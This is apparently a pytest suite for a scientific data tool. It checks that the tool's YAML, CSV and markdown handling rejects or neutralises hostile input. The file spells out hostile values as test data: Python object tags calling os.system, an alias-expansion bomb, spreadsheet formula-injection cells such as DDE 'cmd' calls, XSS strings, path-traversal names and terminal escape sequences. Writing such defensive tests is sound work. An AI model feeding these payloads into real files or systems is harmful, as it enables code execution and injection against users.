"""Data pairs and configuration are data: nothing in them is run, read or written outside of their folders."""

import copy
import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from markdown_it import MarkdownIt

from tcreferee.base.errors import RefereeError
from tcreferee.base.provenance import csv_text, sha256
from tcreferee.base.records import read_rows, write_record, write_rows
from tcreferee.cli import main
from tcreferee.comparison.columns import COLUMNS
from tcreferee.comparison.markdown import page as verdict_page
from tcreferee.config.load import load_plan
from tcreferee.data.catalogue import markdown, read_datasets
from tcreferee.data.draft import draft
from tcreferee.data.sidecar import find_datasets, read_sidecar
from tcreferee.data.strict_yaml import is_bounded
from tcreferee.data.tidy import tidy

ROOT = Path(__file__).parents[1]
OPEN_MARKER = "__import__('pathlib').Path('marker').touch()"
PYTHON_TAGS = (
    "!!python/object/apply:pathlib.Path.touch [marker]",
    "!!python/object/apply:os.system ['touch marker']",
    "!!python/name:os.system",
    "!!python/module:os",
    "!!python/object/new:type {args: [x, [], {}]}",
)
HOSTILE = (
    "<script>window.pwned=1</script>", '"><img src=x onerror=window.pwned=1>', "' onmouseover='window.pwned=1",
    "]]><script>window.pwned=1</script>", "<!-- ", "[x](javascript:window.pwned=1)", "<javascript:window.pwned=1>",
    "![x](data:text/html,x)", "`</code><script>window.pwned=1</script>`", "|\n<b>\n\n# head\n",
    "<details ontoggle=x open>",
)  # fmt: skip
RUN_BY_SPREADSHEETS = (
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid","y")', " =1+1", "＝1+1", "-1+SUM(A1:A9)",
    '+WEBSERVICE ("http://x.invalid/"&A1)', "-1+SUM (A1:A9)", "+A1", "-a1", "+$A$1*2", "-1-A1", "+1e5e", "－A1",
    "+Sheet2.A1", "-[1]x", "-(molar enthalpy) / (N_A e)",
)  # fmt: skip
RUN_AFTER_A_SEPARATOR = {
    "\t=1+1": "'\t'=1+1", "\r=1+1": "'\n'=1+1", "+2;=1+1": "+2;'=1+1", "a\n=1\n-B2": "a\n'=1\n'-B2",
    ";=1+1": ";'=1+1", "A1; =1+1": "A1;' =1+1", "a;b;+A1;c": "a;b;'+A1;c", "a\t@x": "a\t'@x",
}  # fmt: skip
LEFT_ALONE = (
    "", "-", "." * 5000, "-" + "1." * 5000, "-1.5", "-0.5", "+2", "-1/6", "+3",
    "-1.2(3)", "-1.5e27", "-1.5E-27 ± 2", "-1, -2", "-inf", "a=b", "YBa2Cu3O7-x",
    "n = 1; T = 2", "1; -2; +3e5", "a + b",
)  # fmt: skip


def laughs(levels=10, width=9):
    """A few lines of YAML that stand for width ** levels values."""
    lines = [f"a0: &a0 [{', '.join('x' * width)}]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * width)}]" for i in range(1, levels)]
    return "\n".join(lines) + f"\ncomparisons: {{c: {{dataset: *a{levels - 1}}}}}\n"


@pytest.fixture
def here(tmp_path, monkeypatch):
    """The working directory: an empty folder, which must hold no `marker` afterwards."""
    monkeypatch.chdir(tmp_path)
    yield tmp_path
    assert not list(tmp_path.rglob("marker*"))


@pytest.fixture
def pair(here):
    """Write a pair whose sidecar is a real one with the given keys changed; return its sidecar."""
    table = (ROOT / "data/raw/bec_table1_cuprates.csv").read_bytes()
    about = yaml.safe_load((ROOT / "data/raw/bec_table1_cuprates.yaml").read_text(encoding="utf-8"))

    def write(**changes):
        (here / "bec_table1_cuprates.csv").write_bytes(table)
        path = here / "bec_table1_cuprates.yaml"
        path.write_text(yaml.safe_dump(about | changes, allow_unicode=True), encoding="utf-8")
        return path

    write.about = about
    return write


@pytest.fixture(scope="module")
def configuration():
    return yaml.safe_load((ROOT / "config.yaml").read_text(encoding="utf-8"))


# ---- YAML


@pytest.mark.parametrize("tag", PYTHON_TAGS)
def test_a_tag_in_a_sidecar_makes_no_object(pair, tag):
    path = pair()
    path.write_text(path.read_text().replace("licence:", f"notes: {tag}\nlicence:"), encoding="utf-8")
    with pytest.raises(RefereeError, match=r"is not allowed\. Remove it"):
        read_sidecar(path)


@pytest.mark.parametrize("tag", PYTHON_TAGS)
def test_a_tag_in_the_configuration_makes_no_object(here, tag, capsys):
    (here / "config.yaml").write_text(f"seed: {tag}\n", encoding="utf-8")
    assert main(["datasets"]) == 1
    assert "config.yaml cannot be read" in capsys.readouterr().err


def test_a_configuration_that_grows_by_aliases_is_refused(here, capsys):
    (here / "config.yaml").write_text(laughs(), encoding="utf-8")
    assert main(["datasets"]) == 1
    assert "its aliases make it too large" in capsys.readouterr().err
    with pytest.raises(RefereeError, match="becomes too large when its aliases are expanded; expected at most 100000"):
        load_plan(yaml.safe_load(laughs()))


def test_aliases_as_people_use_them_are_accepted():
    assert is_bounded(yaml.safe_load("a: &a {x: 1}\nb: *a\nc: {<<: *a, y: 2}\n"))
    cycle: list[object] = []
    cycle.append(cycle)
    assert not is_bounded(cycle)


def test_the_workflow_refuses_such_a_configuration_at_once(here):
    (here / "Snakefile").write_text(f'include: "{ROOT / "workflow/Snakefile"}"\n', encoding="utf-8")
    (here / "config.yaml").write_text(laughs(), encoding="utf-8")
    command = [sys.executable, "-m", "snakemake", "--cores", "1", "--dry-run"]
    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=60, cwd=here)
    assert done.returncode == 1
    assert "becomes too large when its aliases are expanded" in done.stderr


def test_sidecars_have_no_aliases_at_all(pair):
    path = pair()
    path.write_text(laughs(), encoding="utf-8")
    with pytest.raises(RefereeError, match=r"alias \*a0 is not allowed"):
        read_sidecar(path)


@pytest.mark.parametrize("text", ["seed: " + "[" * 5000 + "]" * 5000, "{" * 5000, "- " * 5000])
def test_deep_nesting_is_a_sentence(here, text, capsys):
    (here / "config.yaml").write_text(text, encoding="utf-8")
    assert main(["datasets"]) == 1
    assert "config.yaml cannot be read" in capsys.readouterr().err
    (here / "deep.yaml").write_text(text, encoding="utf-8")
    with pytest.raises(RefereeError, match="nested more than 12 levels deep"):
        read_sidecar(here / "deep.yaml")


# ---- expressions


def test_no_field_of_a_sidecar_is_an_expression(pair):
    """Each value in turn becomes a Python expression: it is refused, or stays the text it is."""
    fields = 0

    def places(value, way=()):
        items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
        for key, inner in items:
            yield from places(inner, (*way, key))
        if not isinstance(value, dict | list):
            yield way

    for way in places(pair.about):
        changed = copy.deepcopy(pair.about)
        owner = changed
        for key in way[:-1]:
            owner = owner[key]
        owner[way[-1]] = OPEN_MARKER
        fields += 1
        try:
            sidecar = read_sidecar(pair(**changed))
        except RefereeError:
            continue
        assert OPEN_MARKER in str(sidecar.model_dump()), way
        main(["check", "bec_table1_cuprates.yaml"])  # units and numbers are read, too
    assert fields > 30


@pytest.mark.parametrize(
    "unit", [OPEN_MARKER, "9**9**9**9", "(lambda: 1)()", "K if 1 else 2", "1e999999999 K", "K" * 500]
)
def test_a_unit_is_no_expression(pair, unit, capsys):
    columns = copy.deepcopy(pair.about["columns"])
    next(about for about in columns.values() if about["quantity"] == "tc_K")["unit"] = unit
    assert main(["check", str(pair(columns=columns))]) == 1
    assert ".unit" in capsys.readouterr().err


@pytest.mark.parametrize("word", ["tc_K + 1", OPEN_MARKER, "screening; import os", "{tc_K.__class__}"])
def test_words_of_the_configuration_are_no_expressions(here, configuration, word):
    changed = copy.deepcopy(configuration)
    comparison = changed["comparisons"]["bec_cuprates"]
    comparison |= {"response": word, "x": word, "likelihood": word}
    comparison["models"][0] = {"model": word}
    with pytest.raises(RefereeError) as error:
        load_plan(changed)
    assert len(error.value.problems) >= 2
    assert word in str(error.value)


# ---- paths


@pytest.mark.parametrize(
    "name", ["../x", "/x", "a/b", "..", ".", ".hidden", "a b", "", "<b>", "x}{y", "a|b", "=x", "CON:"]
)
@pytest.mark.parametrize("block", ["comparisons", "predict"])
def test_a_name_that_becomes_a_file_stays_in_results(configuration, block, name):
    changed = copy.deepcopy(configuration)
    changed[block][name] = changed[block].pop(next(iter(changed[block])))
    with pytest.raises(
        RefereeError, match="no name of a file; expected a letter, then letters, digits and underscores"
    ):
        load_plan(changed)


@pytest.mark.parametrize("name", ["../x", "a/b", ".."])
def test_the_name_of_a_model_stays_in_results(configuration, name):
    changed = copy.deepcopy(configuration)
    changed["comparisons"]["bec_cuprates"]["models"][0] = {"model": "bec_ideal", "name": name}
    with pytest.raises(RefereeError, match=r"models\[0\]\.name"):
        load_plan(changed)


def test_a_comparison_leaves_the_folders_of_others_alone(configuration):
    changed = copy.deepcopy(configuration)
    changed["comparisons"]["tables"] = copy.deepcopy(changed["comparisons"]["ionicity"])
    with pytest.raises(RefereeError, match="'tables' is the name of another folder of results; expected another name"):
        load_plan(changed)


@pytest.mark.parametrize("name", ["../../outside", "/outside", "sub/outside", "..\\outside"])
def test_a_dataset_is_a_name_and_no_path(configuration, pair, name):
    with pytest.raises(RefereeError, match="id"):
        read_sidecar(pair(id=name))
    changed = copy.deepcopy(configuration)
    changed["comparisons"]["bec_cuprates"]["dataset"] = name
    with pytest.raises(RefereeError, match="unknown dataset"):
        load_plan(changed)
    changed = copy.deepcopy(configuration)
    changed["comparisons"]["bec_cuprates"]["models"][0] = name
    with pytest.raises(RefereeError, match="unknown model"):
        load_plan(changed)


def test_a_link_out_of_the_folder_is_refused(pair, here):
    folder = here / "pairs"
    folder.mkdir()
    sidecar = pair()
    (folder / "secret.csv").symlink_to(sidecar.with_suffix(".csv"))
    (folder / "secret.yaml").symlink_to("../bec_table1_cuprates.yaml")
    with pytest.raises(RefereeError) as error:
        find_datasets([folder])
    assert str(error.value).count("is a link to a file outside of its folder. Put the file itself there") == 2
    (folder / "secret.csv").unlink()
    (folder / "secret.yaml").unlink()
    (folder / "kept.csv").write_bytes(b"a\n1\n")
    (folder / "kept.yaml").write_text("id: kept\n")
    (folder / "alias.csv").symlink_to("kept.csv")
    (folder / "alias.yaml").symlink_to("kept.yaml")
    assert list(find_datasets([folder])) == ["alias", "kept"]


# ---- spreadsheets


def test_no_cell_is_a_formula_for_a_spreadsheet(tmp_path):
    cells = [*RUN_BY_SPREADSHEETS, *RUN_AFTER_A_SEPARATOR, *LEFT_ALONE]
    write_rows(tmp_path / "a.csv", ["label"], [{"label": cell} for cell in cells])
    found = [row["label"] for row in read_rows(tmp_path / "a.csv")]
    assert found == [*(f"'{cell}" for cell in RUN_BY_SPREADSHEETS), *RUN_AFTER_A_SEPARATOR.values(), *LEFT_ALONE]
    assert csv_text(["a"], [[1.5], [None]]) == 'a\n1.5\n""\n'


def test_labels_of_a_table_are_no_formulas(pair, here):
    path = pair()
    rows = list(csv.reader(io.StringIO(path.with_suffix(".csv").read_text(encoding="utf-8"), newline="")))
    at = rows[0].index(pair.about["label"])
    key = rows[1][rows[0].index(pair.about["row_key"])]
    text = path.with_suffix(".csv").read_text(encoding="utf-8")
    evil = text.replace(rows[1][at], "=cmd|' /C calc'!A0", 1)
    assert evil != text
    path.with_suffix(".csv").write_text(evil, encoding="utf-8")
    about = pair.about | {"sha256": sha256(path.with_suffix(".csv"))}
    about = yaml.safe_load(
        yaml.safe_dump(about, allow_unicode=True).replace(f"row: {key}\n", "row: \"=cmd|' /C calc'!A0\"\n")
    )
    for key in ("compounds", "compounds_note", "second"):  # they name the row
        about.pop(key, None)
    path.write_text(yaml.safe_dump(about, allow_unicode=True), encoding="utf-8")
    tidy(path.with_suffix(".csv"), path, here / "t.csv", here / "r.csv", here / "t.json")
    labels = [row["label"] for row in read_rows(here / "t.csv")]
    assert labels[0] == "'=cmd|' /C calc'!A0"
    assert not any(label.startswith(("=", "+", "@")) for label in labels)


# ---- markdown


def rendered(text):
    """Tags and addresses of a page of markdown, raw HTML let through."""
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(text)
    flat = [each for token in tokens for each in (token, *(token.children or []))]
    raw = [token.content for token in flat if token.type in ("html_block", "html_inline")]
    addresses = [str(token.attrs[name]) for token in flat for name in ("href", "src") if name in token.attrs]
    return raw, addresses, [token.content for token in flat if token.type == "text"]


@pytest.mark.parametrize("evil", HOSTILE)
def test_pages_of_datasets_have_no_active_content(pair, evil):
    words = {key: f"{pair.about[key]} {evil}" for key in ("title", "location", "obtained", "licence")}
    source = {
        "authors": [evil],
        "year": 2020,
        "title": evil,
        "note": evil,
        "doi": "10.1000/x)[click](javascript:pwned)",
    }
    columns = copy.deepcopy(pair.about["columns"])
    for about in columns.values():
        if about["quantity"] != "text":
            about["suspect"] = evil
    path = pair(**words, source=source, columns=columns, problems=[evil])
    page = markdown(read_datasets({path.stem: path}, {path.stem: [f"`{evil}`"]}))
    raw, addresses, texts = rendered(page)
    assert raw == []
    assert {address.partition(":")[0] for address in addresses} <= {
        "https",
        "#bec_table1_cuprates",
        "../data/raw/README.md",
    }
    assert any(evil.split("\n")[0][:8].strip() in text for text in texts) or "`" in evil or "\n" in evil


@pytest.mark.parametrize("evil", HOSTILE)
def test_pages_of_verdicts_have_no_active_content(tmp_path, evil):
    record = {"comparison": "toy", "sentence": f"{evil} predicts best.", "cautions": [evil]}
    write_record(tmp_path / "toy/comparison.json", record)
    texts = dict.fromkeys(["label", "kind", "null", "generic", "words", "predicts", "complete", "grade"], evil)
    write_rows(tmp_path / "toy/comparison.csv", COLUMNS, [dict.fromkeys(COLUMNS, "1") | texts | {"w_stacking": ""}])
    sign = {"source": evil, "comparison": "toy", "outcome": "objected", "model": "1", "objections": evil}
    write_rows(tmp_path / "standing.csv", list(sign), [sign])
    raw, addresses, _ = rendered(verdict_page(tmp_path))
    assert raw == []
    assert addresses == []


def test_a_draft_quotes_what_the_header_says(tmp_path):
    header = 'a,"b: !!python/name:os.system","c\n#","<script>"'
    (tmp_path / "t.csv").write_text(f"{header}\nx,2,3,4\n", encoding="utf-8")
    columns = yaml.safe_load(draft(tmp_path / "t.csv"))["columns"]
    assert list(columns) == ["b: !!python/name:os.system", "c\n#", "<script>"]


def test_a_table_cannot_take_over_a_terminal(pair, capsys):
    path = pair(title="Films \x1b]0;pwned\x07\x1b[2J\u202e")
    main(["check", str(path)])
    said = capsys.readouterr()
    assert not {"\x1b", "\x07", "\u202e"} & set(said.out + said.err)
